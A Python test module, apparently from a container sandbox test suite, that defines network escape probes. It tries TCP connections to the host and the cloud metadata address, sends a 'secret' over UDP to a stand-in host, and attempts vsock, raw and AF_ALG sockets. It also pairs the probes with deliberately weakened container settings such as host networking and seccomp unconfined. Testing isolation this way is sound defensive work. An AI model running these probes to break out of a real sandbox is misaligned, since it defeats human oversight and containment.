"""Attacks that try to leave by a network."""

from __future__ import annotations

from tests.containers.hostile.attack import Attack, Weakening

_HOST_NETWORK = Weakening("a network of its own", {"NetworkMode": "host"})
_NO_FILTER = {"SecurityOpt": ["no-new-privileges", "seccomp=unconfined"]}

TCP = Attack(
    "tcp to the host and away",
    """
    import socket
    for address in (("127.0.0.1", {port}), ("172.17.0.1", {port}), ("169.254.169.254", 80), ("192.0.2.1", 443)):
        try:
            socket.create_connection(address, timeout=2).close()
            print("BROKE connected", address)
        except OSError as error:
            print(address, error)
    """,
    seen=lambda result: result.observed.network_attempts >= 2,
    weakened=_HOST_NETWORK,
    labels=("PASS",),
)
UDP = Attack(
    "udp, name lookups and ipv6",
    """
    import socket
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for address in (("192.0.2.53", 53), ("127.0.0.1", {port})):
        try:
            line.connect(address)
            line.send(b"secret")
            line.settimeout(2)
            print("BROKE", line.recv(100))
        except OSError as error:
            print(address, error)
    for name in ("example.com", "metadata.internal"):
        try:
            print("BROKE resolved", socket.getaddrinfo(name, 80))
        except OSError as error:
            print(name, error)
    six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    try:
        six.connect(("2001:db8::1", 53))
        print("BROKE route over IPv6")
    except OSError as error:
        print("IPv6", error)
    """,
    seen=lambda result: result.observed.network_attempts >= 1,
    weakened=_HOST_NETWORK,
)
ABSTRACT = Attack(
    "a unix socket of the host without a file",
    """
    import socket
    line = socket.socket(socket.AF_UNIX)
    try:
        line.connect("\\0referee-hostile-{port}")
        print("BROKE connected")
    except OSError as error:
        print(error)
    """,
    weakened=_HOST_NETWORK,
)
VSOCK = Attack(
    "a socket to the hypervisor",
    """
    import socket
    try:
        socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        print("BROKE a vsock socket")
    except OSError as error:
        print(error)
    """,
    weakened=Weakening("the filter of system calls", _NO_FILTER, needs="vsock in the kernel"),
)
RAW = Attack(
    "raw packets",
    """
    import socket
    for family, kind, number in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 768)):
        try:
            socket.socket(family, kind, number)
            print("BROKE raw", family)
        except OSError as error:
            print(family, error)
    """,
    weakened=Weakening(
        "dropped capabilities and a user without rights", {"CapDrop": [], "CapAdd": ["NET_RAW"]}, "0"
    ),
)
CRYPTO = Attack(
    "the kernel's cryptography sockets",
    """
    import socket
    try:
        line = socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)
        line.bind(("hash", "sha256"))
        print("BROKE bound")
    except OSError as error:
        print(error)
    """,
    weakened=Weakening("the filter of system calls", _NO_FILTER, needs="AF_ALG in the kernel"),
)
ATTACKS = (TCP, UDP, ABSTRACT, VSOCK, RAW, CRYPTO)
